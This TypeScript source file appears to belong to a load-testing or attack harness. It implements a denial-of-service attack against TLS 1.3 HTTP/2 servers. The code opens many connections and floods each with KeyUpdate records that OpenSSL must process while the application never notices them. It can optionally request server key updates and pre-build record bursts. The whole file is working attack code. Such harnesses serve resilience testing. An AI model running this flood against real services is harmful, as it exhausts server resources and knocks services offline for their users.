// TLS 1.3 records that only change the keys: OpenSSL reads them, and the service never hears of them.

import { FRAME, writeFrame } from '../../../bench/http2-frames.ts';
import { hello } from '../../http2-server/raw-frames.ts';
import { type Attack, keepOpen, wait } from '../attacker/attack.ts';
import { tally } from '../attacker/tally.ts';
import { keyUpdate, openTls13, type Tls13Connection } from '../attacker/tls13.ts';
import { RECORD } from '../attacker/tls13-keys.ts';

const BURST = 500;
const GREETING_MS = 200;
const ACKNOWLEDGED = writeFrame(FRAME.settings, 1, 0, Buffer.alloc(0));

/**
 * Options: `connections`, the `address` they come from, `prepared`: records that each connection has ready before the attack, `asks`: 1: for a
 * KeyUpdate of the server.
 */
export const attack: Attack = async ({ target, options }) => {
  const { connections, address, prepared = 0, asks = 0 } = options;
  const open = async () => {
    const connection = await openTls13({ ...target, from: String(address) }, { protocol: 'h2' });
    connection.socket.resume().write(connection.flight);
    connection.socket.write(connection.keys.seal(RECORD.data, Buffer.concat([hello(), ACKNOWLEDGED])));
    return connection;
  };
  const burst = ({ keys }: Tls13Connection, count: number) =>
    Buffer.concat(Array.from({ length: count }, () => keyUpdate(keys, asks === 1)));

  const early = await Promise.all(Array.from({ length: Number(prepared) > 0 ? Number(connections) : 0 }, open));
  // Their handshakes are complete: records take longer to make than a handshake may take.
  await wait(GREETING_MS, new AbortController().signal);
  const ready = early.map((connection) => ({ connection, bytes: burst(connection, Number(prepared)) }));
  return (until) => {
    for (const { connection, bytes } of ready) {
      tally('prepared records', Number(prepared));
      connection.socket.write(bytes);
    }
    return keepOpen(Number(connections), until, async () => {
      const connection = await open();
      const { socket } = connection;
      while (!until.aborted && socket.writable) {
        const isTaken = socket.write(burst(connection, BURST));
        tally('records', BURST);
        await (isTaken ? new Promise(setImmediate) : drained(socket));
      }
    });
  };
};

function drained(socket: Tls13Connection['socket']): Promise<void> {
  return new Promise((resolve) => {
    for (const event of ['drain', 'close']) socket.once(event, () => resolve());
  });
}
